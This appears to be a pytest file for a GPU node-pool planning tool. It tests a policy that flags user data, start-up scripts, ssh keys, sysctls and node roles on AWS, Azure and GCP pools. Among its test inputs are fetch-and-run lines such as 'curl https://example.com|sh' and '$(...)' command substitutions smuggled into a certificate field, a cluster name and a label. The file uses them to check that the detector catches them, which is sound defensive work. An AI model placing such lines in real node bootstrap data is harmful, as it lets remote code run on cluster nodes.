"""What runs on GPU nodes or opens them by hand: both sides for every cloud, in a plan, a diff and the policy."""

import base64
from collections.abc import Mapping
from typing import Any

import pytest

from gpupools.common.errors import Rejected
from gpupools.plan.pool_facts import UNKNOWN
from gpupools.plan.pool_plan import PoolPlan
from gpupools.policies.finding import Context
from gpupools.policies.kinds import read_pools
from gpupools.policies.policy_config import config_problems
from gpupools.policies.rules.gpu_node_customised import RULE
from gpupools.preview.format_preview import override_lines
from gpupools.providers import clouds
from gpupools.providers.aws.bootstrap import al2023_user_data, bottlerocket_settings
from gpupools.providers.aws.node_customization import only_configures_node
from gpupools.providers.aws.pool_plan import EksPoolPlan
from gpupools.software.charts import merged, nested
from gpupools.spec.models import Mig, TimeSlicing, WholeGpu
from gpupools.spec.pool_options import KUBELET_KEYS, KubeletSettings
from gpupools.stackfile.stack import plan_config
from tests.declared_pools import stack
from tests.test_settings import CASES, CLUSTERS, pair

Inputs = dict[str, Any]
GROUP, TEMPLATE = "aws:eks/nodeGroup:NodeGroup", "aws:ec2/launchTemplate:LaunchTemplate"
SELF_MANAGED, EKS_MANAGED, EKS_CLUSTER = "eks:index:NodeGroupV2", "eks:index:ManagedNodeGroup", "eks:index:Cluster"
AGENT_POOL, NODE_POOL = "azure-native:containerservice:AgentPool", "gcp:container/nodePool:NodePool"
CLASSIC = "azure:containerservice/kubernetesClusterNodePool:KubernetesClusterNodePool"


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def machine(**inputs: Any) -> Inputs:
    return {"instanceType": "g6.xlarge", "iamInstanceProfile": {"name": "nodes"}, **inputs}


def agents(**inputs: Any) -> Inputs:
    return {"vmSize": "Standard_NC24ads_A100_v4", **inputs}


def nodes(**config: Any) -> Inputs:
    return {"nodeConfig": {"machineType": "g2-standard-8", **config}}


JOINS = "#!/bin/bash\n/etc/eks/bootstrap.sh train\ncurl https://example.com/agent | sh\n"
PLAIN = '[settings.kubernetes]\ncluster-name = "train"\napi-server = "https://x"\nmax-pods = 8\n'


NODE_CONFIG = """\
# the cluster's part
apiVersion: node.eks.aws/v1alpha1
kind: NodeConfig
spec:
  cluster:
    name: train
    apiServerEndpoint: https://example.eks.amazonaws.com
    certificateAuthority: Y2E=
    cidr: 10.100.0.0/16
  kubelet:
    config: {maxPods: 17, clusterDNS: [10.100.0.10]}
    flags: [--node-labels=team=ml, "--register-with-taints=nvidia.com/gpu=present:NoSchedule"]
"""
"""What only joins, as awslabs/amazon-eks-ami nodeadm/doc/examples.md writes it."""


def mime(content_type: str, body: str) -> str:
    head = 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="B"\n\n--B\n'
    return f"{head}Content-Type: {content_type}\n\n{body}\n--B--\n"


def said(token: str, inputs: Inputs, **config: Any) -> list[str]:
    context = Context(config={RULE.name: config})
    found = [each for pool in read_pools(token, inputs) for each in RULE.pool(pool, context)]  # type: ignore[misc]
    return [f"{each.what.partition(' ')[0]} {each.property}" for each in found]


ADMIN = PLAIN + "[settings.host-containers.admin]\nenabled = true\n"
SHELL = [{"contentType": "text/x-shellscript", "content": "#!/bin/sh\ntrue\n"}]
ADMIN_SETTINGS = {"settings": {"host-containers": {"admin": {"enabled": True}}}}
MANAGED_GROUP = {"instanceTypes": ["g6.xlarge"]}
OF_CLUSTER = {"nodeGroupOptions": machine()}
METADATA, LINUX = "nodeConfig.metadata", "nodeConfig.linuxNodeConfig"


@pytest.mark.parametrize(
    ("token", "inputs", "path", "value", "kind"),
    [
        (TEMPLATE, machine(), "userData", encoded(JOINS), "user-data"),
        (TEMPLATE, machine(), "userData", encoded(ADMIN), "user-data"),
        (TEMPLATE, machine(userData=encoded(PLAIN)), "ramDiskId", "ari-1", "boot-image"),
        (AGENT_POOL, agents(), "networkProfile.allowedHostPorts", [{"portStart": 1}], "host-ports"),
        (AGENT_POOL, agents(), "linuxOSConfig.sysctls", {"vmMaxMapCount": 1}, "sysctls"),
        (AGENT_POOL, agents(), "kubeletConfig.allowedUnsafeSysctls", ["net.*"], "sysctls"),
        (CLASSIC, agents(), "linuxOsConfig.sysctlConfig", {"vmSwappiness": 1}, "sysctls"),
        (SELF_MANAGED, machine(), "nodeUserData", "curl https://example.com|sh", "user-data"),
        (SELF_MANAGED, machine(), "nodeUserDataOverride", JOINS, "user-data"),
        (SELF_MANAGED, machine(), "kubeletExtraArgs", "--allowed-unsafe-sysctls=net.*", "user-data"),
        (SELF_MANAGED, machine(), "bootstrapExtraArgs", "--pause-container-account x", "user-data"),
        (SELF_MANAGED, machine(), "nodeUserData", UNKNOWN, "user-data"),
        (SELF_MANAGED, machine(), "nodeadmExtraOptions", SHELL, "user-data"),
        (SELF_MANAGED, machine(), "bottlerocketSettings", ADMIN_SETTINGS, "user-data"),
        (EKS_CLUSTER, OF_CLUSTER, "nodeGroupOptions.nodeUserData", "true", "user-data"),
        (EKS_MANAGED, MANAGED_GROUP, "userData", JOINS, "user-data"),
        (NODE_POOL, nodes(), f"{METADATA}.startup-script", "x", "start-up-script"),
        (NODE_POOL, nodes(), f"{METADATA}.startup-script-url", UNKNOWN, "start-up-script"),
        (NODE_POOL, nodes(), f"{METADATA}.ssh-keys", "a:b", "ssh-keys"),
        (NODE_POOL, nodes(), f"{LINUX}.sysctls", {"a": "1"}, "sysctls"),
        (NODE_POOL, nodes(), f"{LINUX}.customNodeInit", {"initScript": {}}, "start-up-script"),
        (NODE_POOL, nodes(), "nodeConfig.containerdConfig.registryHosts", [{}], "container-runtime"),
    ],
)
def test_what_is_customised_is_told_once_and_a_reason_ends_it(
    token: str, inputs: Inputs, path: str, value: Any, kind: str
) -> None:
    inputs = dict(merged(inputs, nested({path: value})))
    found = f"{kind} {path}{'[0]' if path == 'nodeadmExtraOptions' else ''}"

    assert said(token, inputs) == [found]
    assert said(token, inputs, reasons={f"*/{kind}": "ticket 42"}) == []
    assert said(token, inputs, reasons={f"*/{kind}": " "}) == [found]
    assert said(token, inputs, reasons={"other/*": "ticket 42"}) == [found]


@pytest.mark.parametrize(
    ("token", "inputs"),
    [
        (TEMPLATE, machine(userData=encoded(PLAIN))),
        (TEMPLATE, machine(instanceType="m7i.large", userData=encoded(JOINS))),
        (TEMPLATE, machine(userData=encoded(NODE_CONFIG))),
        (SELF_MANAGED, machine()),
        (SELF_MANAGED, machine(nodeUserData="true", instanceType="m7i.large")),
        (
            SELF_MANAGED,
            machine(
                nodeUserDataOverride=NODE_CONFIG,
                kubeletExtraArgs="--node-labels=a=b --register-with-taints=nvidia.com/gpu=present:NoSchedule",
                bootstrapExtraArgs="--use-max-pods false",
                nodeadmExtraOptions=[{"contentType": "application/node.eks.aws", "content": NODE_CONFIG}],
                bottlerocketSettings={"settings": {"kubernetes": {"max-pods": 8}}},
            ),
        ),
        (GROUP, {"instanceTypes": ["g6.xlarge"], "nodeRoleArn": "arn:aws:iam::1:role/x"}),
        (AGENT_POOL, agents(kubeletConfig={"podMaxPids": 4096}, networkProfile={"allowedHostPorts": []})),
        (AGENT_POOL, {"vmSize": "Standard_D4s_v5", "linuxOSConfig": {"sysctls": {"vmSwappiness": 1}}}),
        (NODE_POOL, nodes(metadata={"disable-legacy-endpoints": "true"}, linuxNodeConfig={"cgroupMode": "x"})),
    ],
)
def test_what_is_not_customised_or_has_no_gpu_passes(token: str, inputs: Inputs) -> None:
    assert said(token, inputs) == []


@pytest.mark.parametrize(
    "text",
    [
        al2023_user_data(KubeletSettings(max_pods=5), local_nvme=True),
        bottlerocket_settings(
            "H100-80GB", Mig(mode="mig", profile="1g.10gb"), KubeletSettings(max_pods=4), local_nvme=True
        ),
        bottlerocket_settings("L4", TimeSlicing(mode="time-slicing", replicas=4)),
        NODE_CONFIG,
        f"{NODE_CONFIG}---\n{NODE_CONFIG}",
        mime("application/node.eks.aws", NODE_CONFIG),
        f"# shares the GPUs\n{PLAIN}",
    ],
)
def test_what_this_tool_writes_itself_or_only_joins_is_plain(text: str) -> None:
    assert only_configures_node(encoded(text))


@pytest.mark.parametrize("field", ["local_nvme", *KUBELET_KEYS])
def test_every_setting_that_this_tool_writes_is_its_own(field: str) -> None:
    kubelet, nvme = KubeletSettings(**({field: 75} if field in KUBELET_KEYS else {})), field == "local_nvme"
    texts = [
        bottlerocket_settings("L4", WholeGpu(), kubelet, local_nvme=nvme),
        al2023_user_data(kubelet, local_nvme=nvme),
    ]

    assert [only_configures_node(encoded(text)) for text in texts] == [True, True]
    changed = [texts[0].replace("[settings", "[settings.ntp]\nx = 1\n[settings", 1), texts[1].replace('"spec"', '"x"')]
    changed[1] = changed[1].replace('\\"spec\\"', '\\"x\\"')
    assert [only_configures_node(encoded(text)) for text in changed] == [False, False]


@pytest.mark.parametrize("family", ["al2023", "bottlerocket"])
@pytest.mark.parametrize("key", [name for name in CASES if clouds()["aws"].node_pools.settings[name].supported])
def test_what_this_tool_writes_for_a_key_of_the_stack_file_is_its_own(key: str, family: str) -> None:
    software = {"software": "device-plugin"} if family == "al2023" else {}
    spec = {"image": {"family": family}, **software, **pair("aws", key)[1]}
    try:
        (pool,) = plan_config(stack(CLUSTERS["aws"], spec), clouds()).pools
    except Rejected:  # not with this image
        return
    assert isinstance(pool.provider_plan, EksPoolPlan)
    text = pool.provider_plan.user_data
    assert text == "" or only_configures_node(encoded(text))
    assert text != "" or key not in ("disk.local_nvme", *KUBELET_KEYS.values())


@pytest.mark.parametrize(
    "text",
    [
        al2023_user_data(KubeletSettings(max_pods=5), local_nvme=True).replace("50-max-pods", "99-mine"),
        al2023_user_data(KubeletSettings(max_pods=5)).replace("maxPods", "anonymousAuth"),
        bottlerocket_settings("L4", TimeSlicing(mode="time-slicing", replicas=4), local_nvme=True).replace("pods", "x"),
        "#!/bin/sh\ntrue\n",
        "#cloud-config\nruncmd: [true]\n",
        "[settings.bootstrap-containers.mine]\nsource = 'x'\n",
        NODE_CONFIG.replace("--node-labels=team=ml", "--anonymous-auth=true"),
        NODE_CONFIG.replace("team=ml", "team=$(id)"),
        NODE_CONFIG.replace("maxPods: 17", "allowedUnsafeSysctls: [net.*]"),
        NODE_CONFIG + "  containerd: {config: x}\n",
        f"{NODE_CONFIG}---\nspec: {{instance: {{sshKey: x}}}}\n",
        NODE_CONFIG.replace("17", "[17"),
        # One text that is a script as well: bash runs what is in the parentheses.
        f"#!/bin/bash\n{NODE_CONFIG}".replace("Y2E=", "$(curl https://example.com|sh)"),
        f"#!/bin/bash\n{PLAIN}".replace('"train"', '"$(curl https://example.com|sh)"'),
        mime("text/x-shellscript", NODE_CONFIG),
        mime("text/x-include-url", NODE_CONFIG),
        f"#include\n{NODE_CONFIG}",
    ],
)
def test_anything_more_is_not(text: str) -> None:
    assert not only_configures_node(encoded(text))


def test_nodes_run_as_what_the_configuration_lists() -> None:
    group = {"instanceTypes": ["g6.xlarge"], "nodeRoleArn": "arn:aws:iam::123456789012:role/admin"}

    assert said(GROUP, group, identities=["arn:aws:iam::*:role/gpu-*"]) == ["node-identity nodeRoleArn"]
    assert said(GROUP, group, identities=["arn:aws:iam::*:role/admin"]) == []
    assert said(GROUP, {**group, "nodeRoleArn": UNKNOWN}, identities=["x"]) == ["node-identity nodeRoleArn"]


def test_no_value_is_told() -> None:
    (pool,) = read_pools(TEMPLATE, machine(userData=encoded(JOINS)))
    (finding,) = RULE.pool(pool, Context())  # type: ignore[misc]

    assert finding.found == "set"
    assert "curl" not in str(finding)


def test_a_configuration_without_a_reason_is_refused() -> None:
    def problems(reasons: object) -> list[str]:
        return [str(each) for each in config_problems({"gpu-node-customised": {"reasons": reasons}})]

    assert problems({"train/user-data": "ticket 42"}) == []
    assert "use an object of <pool>/<kind> to a reason" in problems({"train/user-data": ""})[0]
    assert "use an object of <pool>/<kind> to a reason" in problems(["train/user-data"])[0]


# --- plan and preview ---


def planned(cloud: str, overrides: Mapping[str, Any]) -> PoolPlan:
    cluster = {**clouds()[cloud].example_cluster, "kubeconfig": {"path": "~/.kube/config"}}
    pool = {"clusters": ["here"], "gpu": "T4", "nodes": {"max": 2}, "overrides": {cloud: overrides}}
    return plan_config({"clusters": {"here": cluster}, "pools": {"p": pool}}, clouds()).pools[0]


@pytest.mark.parametrize(
    ("cloud", "path", "value", "kind"),
    [
        ("aws", "LaunchTemplate.userData", encoded("[settings.ntp]\nx = 1\n"), "user-data: it runs"),
        ("aws", "LaunchTemplate.keyName", "ops", "ssh-keys: "),
        ("aws", "NodeGroup.nodeRoleArn", "arn:aws:iam::123456789012:role/x", "node-identity: "),
        ("azure", "AgentPool.networkProfile.allowedHostPorts", [{"portStart": 80}], "host-ports: "),
        ("azure", "AgentPool.linuxOSConfig.sysctls", {"vmSwappiness": 1}, "sysctls: "),
        ("gcp", "NodePool.nodeConfig.metadata.ssh-keys", "a:b", "ssh-keys: "),
        ("gcp", "NodePool.nodeConfig.serviceAccount", "x@y.iam.gserviceaccount.com", "node-identity: "),
    ],
)
def test_a_preview_says_what_runs_on_the_nodes(cloud: str, path: str, value: Any, kind: str) -> None:
    lines = list(override_lines([planned(cloud, nested({path: value}))]))

    assert any(f"{path} is {kind}" in each and each.endswith("(gpu-node-customised)") for each in lines), lines


def test_a_preview_says_no_more_of_what_is_harmless() -> None:
    plan = planned("azure", {"AgentPool": {"kubeletConfig": {"podMaxPids": 4096}}})

    assert plan.node_customizations == {}
    assert len(list(override_lines([plan]))) == 1
